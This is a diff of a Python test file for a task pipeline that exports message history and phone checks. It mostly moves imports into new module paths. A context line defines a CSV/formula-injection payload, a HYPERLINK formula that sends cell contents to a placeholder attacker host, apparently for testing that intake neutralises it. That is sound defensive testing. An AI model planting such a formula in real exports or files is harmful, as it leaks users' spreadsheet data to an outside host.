@@ -21,20 +21,20 @@ from markdown_it import MarkdownIt
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-import tasks.progress
+import tasks.reporting.progress
 from models.db import session_scope
 from models.history import transition
 from models.params import HistoryFilter, NotificationTaskParams
 from models.status import MessageStatus
 from models.tables import Message, PhoneCheckResult
-from tasks.history import export_history
-from tasks.hlr import export_checks
-from tasks.intake import intake
-from tasks.lifecycle import open_task
-from tasks.markdown import code_span, escape
-from tasks.progress import publish_summary
-from tasks.report import build_report
-from tasks.schedule import schedule
+from tasks.control.lifecycle import open_task
+from tasks.delivery.hlr import export_checks
+from tasks.intake.intake import intake
+from tasks.reporting.history import export_history
+from tasks.reporting.markdown import code_span, escape
+from tasks.reporting.progress import publish_summary
+from tasks.reporting.report import build_report
+from tasks.schedule.schedule import schedule
 
 LEAK = '=HYPERLINK("http://evil.example/?"&J3&C2,"Click for details")'
 # What Excel would start a formula with (OWASP CSV injection), and the text of an error value. Intake
@@ -138,7 +138,7 @@ def test_summary_artifact_shows_the_task_name_and_rejection_reasons_as_text(
 ) -> None:
     published: list[dict[str, Any]] = []
     # The Prefect API is the outside world here: the artifact is kept, not posted.
-    monkeypatch.setattr(tasks.progress, "create_markdown_artifact", lambda markdown, **kw: published.append({"markdown": markdown, **kw}))
+    monkeypatch.setattr(tasks.reporting.progress, "create_markdown_artifact", lambda markdown, **kw: published.append({"markdown": markdown, **kw}))
     task_id = hostile_task(tmp_path)
     markdown = publish_summary(task_id)
     html = render(markdown)
